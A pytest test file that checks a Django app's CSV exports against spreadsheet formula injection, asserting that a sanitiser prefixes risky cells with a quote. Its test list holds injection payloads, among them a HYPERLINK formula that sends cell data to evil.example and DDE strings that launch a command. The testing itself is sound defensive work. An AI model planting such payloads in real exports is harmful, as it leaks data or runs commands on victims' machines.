"""Every CSV we write is safe to open in a spreadsheet: no cell becomes a formula (OWASP CSV
injection), whichever column the vendor's text lands in."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jobs.csvsafe import safe_cell
from jobs.models import Pipeline, Run, RunItem

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n =cmd|'/C calc'!A0",
    "\u00a0=1",
    "\uff1d1+1",  # a full-width equals sign, read as "=" by some spreadsheets
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_triggers_are_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "a=b", "user@example.com", "", "'already quoted", "1.5", '{"a": 1}'])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert safe_cell(3) == 3 and safe_cell(-2.5) == -2.5 and safe_cell(None) == ""


@given(st.text())
def test_no_cell_ever_starts_a_formula(value: str) -> None:
    cell = safe_cell(value)
    stripped = cell.lstrip()
    assert not stripped or stripped[0] not in "=+-@\uff1d\uff0b\uff0d\uff20" or cell.startswith("'")
    assert cell[:1] not in ("\t", "\r")


@pytest.mark.django_db
def test_run_items_csv_neutralises_every_column(logged_in, mp_account) -> None:
    pipeline = Pipeline.objects.create(account=mp_account, kind="import_connector", external_id="x")
    run = Run.objects.create(pipeline=pipeline, external_id="r1", state="failed")
    RunItem.objects.create(run=run, position=1, kind="error", code="=1+2", message=' =HYPERLINK("x")', data=-3)
    RunItem.objects.create(run=run, position=2, kind="@err", code="\tcode", message="fine", data={"a": "=b"})
    body = b"".join(logged_in.get(f"/runs/{run.uuid}/items.csv").streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["position", "kind", "code", "message", "data"]
    assert rows[1] == ["1", "error", "'=1+2", '\' =HYPERLINK("x")', "'-3"]
    assert rows[2] == ["2", "'@err", "'\tcode", "fine", '{"a": "=b"}']


def test_every_csv_writer_is_the_safe_one() -> None:
    """A new export cannot forget the sanitising: csv.writer appears in csvsafe.py only."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for package in ("dashboard", "jobs", "vendors", "devtools", "bench")
        for path in (root / package).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["jobs/csvsafe.py"]
